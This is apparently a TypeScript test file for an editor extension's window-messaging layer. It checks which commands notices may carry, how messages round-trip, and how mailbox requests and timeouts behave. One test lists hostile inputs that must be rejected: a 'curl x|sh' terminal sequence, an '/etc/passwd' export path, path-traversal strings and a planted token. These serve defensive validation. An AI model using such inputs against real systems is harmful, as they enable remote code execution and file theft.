// Messages between windows (src/core/sync/mailbox.ts, message.ts): what a notice may ask to run, and one
// request with its reply.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Announcer } from '../../src/core/notify/announcer';
import { newTasksNotice } from '../../src/core/notify/newTasks';
import { NodeFiles } from '../../src/core/sync/files';
import { SyncLayout } from '../../src/core/sync/layout';
import { Mailbox } from '../../src/core/sync/mailbox';
import {
  decodeMessage,
  encodeMessage,
  MAX_NOTICE_TASKS,
  type Notice,
  NOTICE_COMMANDS,
  type RequestBody,
} from '../../src/core/sync/message';
import { TaskStore } from '../../src/core/store/taskStore';
import { FakeClock } from './support/fakeClock';
import { ID1, ID2, task } from './support/tasks';

const notice = (command: string, args: string[]): Notice => ({
  severity: 'info',
  text: 'Done.',
  actions: [{ title: 'Go', command, args }],
});
const passes = (n: Notice): boolean => decodeMessage(encodeMessage({ kind: 'notice', notice: n })) !== undefined;

suite('window messages', () => {
  test('a notice may run only the commands notices need, each with the arguments it takes', () => {
    const ids = (n: number): string[] => Array.from({ length: n }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
    for (const [command, takes] of Object.entries(NOTICE_COMMANDS)) {
      const right = takes === 'none' ? [[]] : takes === 'task' ? [[ID1]] : [[ID1], ids(MAX_NOTICE_TASKS)];
      const wrong = takes === 'none' ? [[ID1]] : takes === 'task' ? [[], [ID1, ID2]] : [[], ids(MAX_NOTICE_TASKS + 1), [ID1, 'x']];
      for (const args of right) assert.ok(passes(notice(command, args)), `${command}(${args.length})`);
      for (const args of wrong) assert.equal(passes(notice(command, args)), false, `${command} with the wrong arguments (${args.length})`);
    }
    for (const [command, args] of [
      ['extruct.setToken', ['tok_planted']],
      ['extruct.resumeTask', [ID1, '250']],
      ['extruct.exportResults', [ID1, '/etc/passwd']],
      ['extruct.watchTask', ['../../x']],
      ['workbench.action.terminal.sendSequence', ['curl x|sh\n']],
      ['extruct.openDetails', ['../../x']],
    ] as const) {
      assert.equal(passes(notice(command, [...args])), false, `${command}(${args.join(', ')}) is dropped`);
    }
  });

  test("every notice the extension makes passes: the announcer's completions, failures and pauses", async () => {
    const clock = new FakeClock();
    const store = new TaskStore();
    const made: Notice[] = [];
    const announcer = new Announcer({
      store,
      clock,
      level: () => 'all',
      log: { info: () => undefined, warn: () => undefined },
      route: (n) => made.push(n),
    });
    store.add([ID1, ID2], clock.now());
    for (const id of [ID1, ID2]) store.recordSuccess(id, { ...task(), id }, clock.now());
    store.recordSuccess(ID1, { ...task({ status: 'done' }), id: ID1 }, clock.now());
    await clock.advance(1_000);
    store.recordSuccess(ID2, { ...task({ status: 'failed' }), id: ID2 }, clock.now());
    await clock.advance(1_000);
    store.setAuthPaused(true);
    await clock.advance(1_000);
    // And the notices of tasks started elsewhere, one task or more than a button takes.
    const started = (n: number) =>
      Array.from({ length: n }, (_, i) => ({ ...task(), id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}` }));
    made.push(newTasksNotice(started(1)), newTasksNotice(started(25)));
    assert.ok(made.length >= 4);
    for (const n of made) assert.deepEqual(decodeMessage(encodeMessage({ kind: 'notice', notice: n })), { kind: 'notice', notice: n });
    announcer.dispose();
    store.dispose();
  });

  test('a start request keeps the chat its MCP client named, bounded, and nothing else', () => {
    const round = (body: unknown) => decodeMessage(JSON.stringify({ kind: 'request', from: 'mcp-a1', ref: 'mcp-a1-1', body }));
    assert.deepEqual(round({ type: 'startSearch', input: { query: 'x' }, chat: { requestId: 'r1', sessionId: 's1', extra: 1 } }), {
      kind: 'request',
      from: 'mcp-a1',
      ref: 'mcp-a1-1',
      body: { type: 'startSearch', input: { query: 'x' }, chat: { requestId: 'r1', sessionId: 's1' } },
    });
    for (const chat of [{ requestId: 'x'.repeat(257) }, { requestId: 7 }, 'r1', null]) {
      assert.deepEqual(round({ type: 'startSearch', input: {}, chat }), {
        kind: 'request',
        from: 'mcp-a1',
        ref: 'mcp-a1-1',
        body: { type: 'startSearch', input: {} },
      });
    }
  });

  test('a request is answered by the window asked, and a window that does not answer is given up on', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'extruct-mailbox-'));
    try {
      const layout = new SyncLayout(dir);
      fs.mkdirSync(layout.noticesDir, { recursive: true });
      const clock = new FakeClock();
      const log = { info: () => undefined, warn: () => undefined };
      const asked: RequestBody[] = [];
      const box = (window: string) =>
        new Mailbox({
          files: new NodeFiles(window),
          layout,
          window,
          clock,
          log,
          handlers: {
            notice: () => undefined,
            request: (body) => {
              asked.push(body);
              return Promise.resolve({ type: 'done' as const });
            },
          },
        });
      const a = box('a');
      const b = box('b');
      const reply = a.request('b', { type: 'refresh', ids: [ID1] });
      b.take();
      await clock.advance(0);
      a.take();
      assert.deepEqual(await reply, { type: 'done' });
      assert.deepEqual(asked, [{ type: 'refresh', ids: [ID1] }]);
      const unanswered = a.request('gone', { type: 'refresh' }, 5_000);
      await clock.advance(5_000);
      assert.equal(await unanswered, undefined);
      // The message to the window that is gone is removed once seen so for a while.
      a.removeUndeliverable((w) => w !== 'gone');
      await clock.advance(60_000);
      a.removeUndeliverable((w) => w !== 'gone');
      assert.deepEqual(fs.readdirSync(layout.noticesDir), []);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
